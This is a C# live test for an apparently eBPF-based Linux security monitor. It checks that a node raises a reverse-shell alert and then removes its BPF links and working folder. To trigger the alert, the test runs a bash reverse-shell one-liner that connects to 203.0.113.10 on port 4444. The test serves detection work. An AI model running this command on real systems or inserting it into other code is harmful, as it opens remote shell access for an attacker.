using System.Runtime.Versioning;

namespace Picket.Spec.Live;

[Collection(LiveCollection.Name)]
[SupportedOSPlatform("linux")]
public sealed class LiveNodeSpec
{
    private const string ReverseShell = "f14eb449-a05b-47b7-8557-70973f8b0c7d";

    [Fact]
    public async Task A_node_sees_a_process_and_leaves_nothing_behind()
    {
        string folder;
        HashSet<string> links;
        await using (var node = await LiveNode.StartAsync())
        {
            folder = node.Folder;
            links = node.Links();
            Assert.InRange(OwnLinks().Intersect(links).Count(), 10, links.Count);
            Assert.NotEmpty(Directory.EnumerateFileSystemEntries("/sys/fs/bpf", "picket-spec-*"));
            var pid = node.Run("bash", "-c", "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1");
            await node.AlertAsync(ReverseShell, pid);
            Assert.True(await node.StopAsync(), "not all that was under way arrived");
            Assert.True(node.Host.Counters.Ledger.IsBalanced, "the ledger does not balance");
        }

        Assert.False(Directory.Exists(folder));
        Assert.Empty(OwnLinks().Intersect(links));
        Assert.Empty(Directory.EnumerateFileSystemEntries("/sys/fs/bpf", $"picket-spec-{Environment.ProcessId}-*"));
    }

    /// <summary>The numbers of the links that this process holds.</summary>
    private static List<string> OwnLinks()
    {
        var links = new List<string>();
        foreach (var file in Directory.EnumerateFiles("/proc/self/fdinfo"))
        {
            try
            {
                links.AddRange(File.ReadLines(file).Where(line => line.StartsWith("link_id:", StringComparison.Ordinal)).Select(line => line[8..].Trim()));
            }
            catch (IOException)
            {
                // Closed since it was listed.
            }
        }

        return links;
    }
}
